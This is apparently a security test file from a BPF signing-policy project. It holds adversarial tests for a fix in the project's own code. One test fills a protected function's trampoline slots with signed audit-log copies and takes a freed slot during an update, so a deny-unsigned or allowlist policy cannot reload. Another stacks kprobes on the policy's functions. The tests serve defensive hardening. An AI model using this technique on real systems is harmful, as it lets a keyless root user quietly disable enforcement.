// SPDX-License-Identifier: GPL-2.0
/*
 * Third hostile review of issue 42's fix: "no unsigned program takes a slot
 * on the policies' own trampolines" (policy_hook_target(), policy.bpf.h).
 * Property under attack: "while a policy is attached, nobody without a
 * trusted signing key can keep the policy from being attached again after
 * an update (unload + load)".  Attacker: root (or CAP_BPF + CAP_PERFMON)
 * without any signing key.  A FAIL is a bypass and its "# BYPASS" line says
 * what the attacker got.  Explicit, in no boot:
 *
 *   BPFSIGN_QUIET=1 qemu/run-guest.sh attack_round3_signed_replay_reload ...
 */
#include <fcntl.h>
#include <stdarg.h>
#include <stdlib.h>
#include <unistd.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <linux/perf_event.h>
#include <linux/types.h>
#include <bpf/bpf.h>
#include <bpf/libbpf.h>

#include "runner.h"
#include "util.h"
#include "policy_fixture.h"
#include "policies/audit_log.lskel.h"

#define POLICY_FILE	"/tmp/attack3.policy"
/* only types that need no 'weakens-policy' */
#define TYPES_POLICY	"keyring allow builtin\nkeyring allow secondary\nunsigned deny\n" \
			"unsigned allow type cgroup_skb\nunsigned allow type tracing\n" \
			"unsigned allow type kprobe\nchildren allow\n"
#define COPIES		40	/* more than BPF_MAX_TRAMP_LINKS (38) */
#define COPY_DIR	"/sys/fs/bpf/r3copy%d"

static const struct bpf_insn ret0[] = { MOV64_IMM(BPF_REG_0, 0), EXIT_INSN() };

/* unsigned fentry on the guard's function: the fix's own check (control) */
static void hook_check_control(void)
{
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .expected_attach_type = BPF_TRACE_FENTRY);
	int fd;

	opts.attach_btf_id = libbpf_find_vmlinux_btf_id("bpf_lsm_bpf_prog", BPF_TRACE_FENTRY);
	fd = load_prog_type(BPF_PROG_TYPE_TRACING, ret0, ARRAY_LEN(ret0), &opts);
	/* policy_hook_target(): still refused, so the attack below is another way in */
	if (!ASSERT_ERR(fd, EPERM, "unsigned fentry on bpf_lsm_bpf_prog (control)"))
		close(fd);
}

static void unload_copies(int n)
{
	char dir[64];
	int i;

	for (i = 0; i < n; i++) {
		snprintf(dir, sizeof(dir), COPY_DIR, i);
		policy_cli("unload", "audit-log", "--pin-dir", dir, NULL);
		rmdir(dir);
	}
}

/* --- the kit's own signed policies, replayed --------------------------- */

/*
 * The hook check refuses unsigned programs only: "signed, or a VERIFIED
 * loader's child" passes.  Every machine that runs the kit holds signed
 * light skeletons whose children attach to exactly these functions: the
 * policies themselves, in bpfsign-policy, and `load --pin-dir` loads
 * another copy of any of them beside the attached one.  audit-log decides
 * nothing, so its copies cost the attacker nothing; each takes a slot on
 * bpf_lsm_bpf_prog (its guard), security_bpf_prog_load and bpf_check.
 * Root without a key, deny-unsigned attached (no type rule at all):
 *   1. `bpfsign-policy load audit-log --pin-dir DIR` until the guard's
 *      trampoline is full (37 copies + the attached guard = 38);
 *   2. one more copy through the same signed light skeleton, loaded now
 *      (the policy admits it: a VERIFIED loader's children) but not linked;
 *   3. the administrator's update: unload deny-unsigned; the attacker links
 *      the held copy's guard into the freed slot (BPF_LINK_CREATE, no hook);
 *   4. load deny-unsigned: E2BIG, the policy stays off.
 * Step 3 is round 2's window (attack_round2_trampoline_full_reload), with
 * a signed program in place of the refused unsigned one.
 */
/* load policy (keyring-allowlist: from file with text): 0 or the CLI's exit */
static int load_policy(const char *policy, const char *text)
{
	if (!text)
		return policy_cli("load", policy, NULL);
	if (policy_write_file(POLICY_FILE, text))
		return -1;
	return policy_cli("load", policy, "--policy", POLICY_FILE, NULL);
}

/* steps 1-4 against policy; the reload's exit code (0: the attack failed) */
static int replay_attack(const char *policy, const char *text)
{
	struct audit_log *held = NULL;
	char dir[64], pin[128];
	int n, rc, link = -1;
	struct stat st;

	policy_unload_all();
	rc = load_policy(policy, text);
	if (!ASSERT_EQ(rc, 0, "load the policy")) {
		policy_dump_out();
		goto out;
	}
	hook_check_control();
	for (n = 0; n < COPIES; n++) {
		snprintf(dir, sizeof(dir), COPY_DIR, n);
		mkdir(dir, 0700);
		rc = policy_cli("load", "audit-log", "--pin-dir", dir, NULL);
		if (rc) {
			rmdir(dir);
			break;
		}
	}
	printf("# %d copies of the signed audit-log attached beside %s; then exit %d\n",
	       n, policy, rc);
	if (rc)
		policy_dump_out();
	held = audit_log__open();
	if (!ASSERT_TRUE(held != NULL, "open the held copy"))
		goto out;
	rc = audit_log__load(held);
	printf("# a signed copy loaded (not linked) while %s is attached: %d\n", policy, rc);
	/* the update: unload ... */
	if (!POLICY_CLI_OK("unload", "unload", policy))
		goto out;
	/* ... the attacker takes the guard's freed slot ... */
	if (!rc) {
		link = bpf_link_create(held->progs.guard.prog_fd, 0, BPF_LSM_MAC, NULL);
		printf("# the held copy's guard linked after the unload: %d errno %d\n", link,
		       link < 0 ? errno : 0);
	}
	/* ... and load */
	rc = load_policy(policy, text);
	printf("# reload of %s: exit %d\n", policy, rc);
	if (rc) {
		policy_dump_out();
		printf("# BYPASS: copies of the kit's own signed audit-log keep %s from loading again (root, no key)\n",
		       policy);
		snprintf(pin, sizeof(pin), POLICY_PIN_DIR "/%s", policy);
		ASSERT_TRUE(stat(pin, &st), "nothing left pinned");
	}
out:
	if (link >= 0)
		close(link);
	if (held)
		audit_log__destroy(held);
	unload_copies(COPIES);
	policy_unload_all();
	return rc;
}

TEST_EXPLICIT(attack_round3_signed_replay_reload)
{
	ASSERT_EQ(replay_attack("deny-unsigned", NULL), 0, "deny-unsigned reloaded");
}

/* keyring-allowlist with "children allow" (signed light skeletons need it;
 * no weakens-policy): the copies pass as a VERIFIED loader's children
 */
TEST_EXPLICIT(attack_round3_signed_replay_allowlist_children)
{
	ASSERT_EQ(replay_attack("keyring-allowlist", TYPES_POLICY), 0, "keyring-allowlist reloaded");
}

/* the CLI's default allowlist (builtin, secondary; children default allow):
 * the copies pass too (run: BYPASS, 37 copies, reload E2BIG)
 */
TEST_EXPLICIT(attack_round3_signed_replay_allowlist_default)
{
	ASSERT_EQ(replay_attack("keyring-allowlist", "keyring allow builtin\nkeyring allow secondary\n"),
		  0, "keyring-allowlist reloaded");
}

/* --- kprobes on the policies' functions ------------------------------- */

/*
 * "unsigned allow type kprobe" needs no weakens-policy, and a kprobe on a
 * traced function shares its ftrace site with the BPF trampoline.  The
 * property: kprobes (perf_event_open, BPF_LINK_CREATE as bpf_perf_event)
 * on bpf_lsm_bpf_prog and bpf_lsm_bpf_prog_load, as many as the
 * attacker likes, neither take trampoline slots nor keep the policy from
 * attaching again.  Expected to pass.
 */
static int kprobe_pmu_type(void)
{
	char buf[32] = "";
	int fd = open("/sys/bus/event_source/devices/kprobe/type", O_RDONLY);

	if (fd < 0)
		return -1;
	if (read(fd, buf, sizeof(buf) - 1) <= 0)
		buf[0] = 0;
	close(fd);
	return buf[0] ? atoi(buf) : -1;
}

static int kprobe_open(int type, const char *fn, bool ret)
{
	struct perf_event_attr attr = {
		.size = sizeof(attr),
		.type = type,
		.config = ret ? 1 : 0,	/* the kprobe PMU's retprobe bit */
		.config1 = (__u64)(unsigned long)fn,	/* kprobe_func */
	};

	return syscall(__NR_perf_event_open, &attr, -1, 0, -1, PERF_FLAG_FD_CLOEXEC);
}

#define KPROBES	48

TEST_EXPLICIT(attack_round3_kprobes_reload)
{
	static const char *const fns[] = { "bpf_lsm_bpf_prog", "bpf_lsm_bpf_prog_load" };
	int pfd[KPROBES], lfd[KPROBES], prog = -1, type, i, n = 0, rc;

	for (i = 0; i < KPROBES; i++)
		pfd[i] = lfd[i] = -1;
	policy_unload_all();
	if (!policy_load_allowlist(POLICY_FILE, TYPES_POLICY))
		goto out;
	prog = load_prog_type(BPF_PROG_TYPE_KPROBE, ret0, ARRAY_LEN(ret0), NULL);
	if (!ASSERT_OK(prog, "unsigned kprobe program admitted by the type rule"))
		goto out;
	type = kprobe_pmu_type();
	if (!ASSERT_GE(type, 0, "kprobe PMU type"))
		goto out;
	for (i = 0; i < KPROBES; i++) {
		pfd[i] = kprobe_open(type, fns[i % 2], i % 4 >= 2);
		if (pfd[i] < 0)
			break;
		lfd[i] = bpf_link_create(prog, pfd[i], BPF_PERF_EVENT, NULL);
		if (lfd[i] < 0)
			break;
		n++;
	}
	printf("# %d kprobes/kretprobes linked on the policy's functions (errno %d)\n", n,
	       n < KPROBES ? errno : 0);
	ASSERT_EQ(n, KPROBES, "kprobes attached (the attack's premise)");
	ASSERT_EQ(policy_cli("unload", "keyring-allowlist", NULL), 0, "unload");
	rc = policy_cli("load", "keyring-allowlist", "--policy", POLICY_FILE, NULL);
	printf("# reload with %d kprobes on its functions: exit %d\n", n, rc);
	if (rc) {
		policy_dump_out();
		printf("# BYPASS: kprobes keep keyring-allowlist from loading again\n");
	}
	ASSERT_EQ(rc, 0, "keyring-allowlist reloaded");
out:
	for (i = 0; i < KPROBES; i++) {
		if (lfd[i] >= 0)
			close(lfd[i]);
		if (pfd[i] >= 0)
			close(pfd[i]);
	}
	if (prog >= 0)
		close(prog);
	policy_unload_all();
}
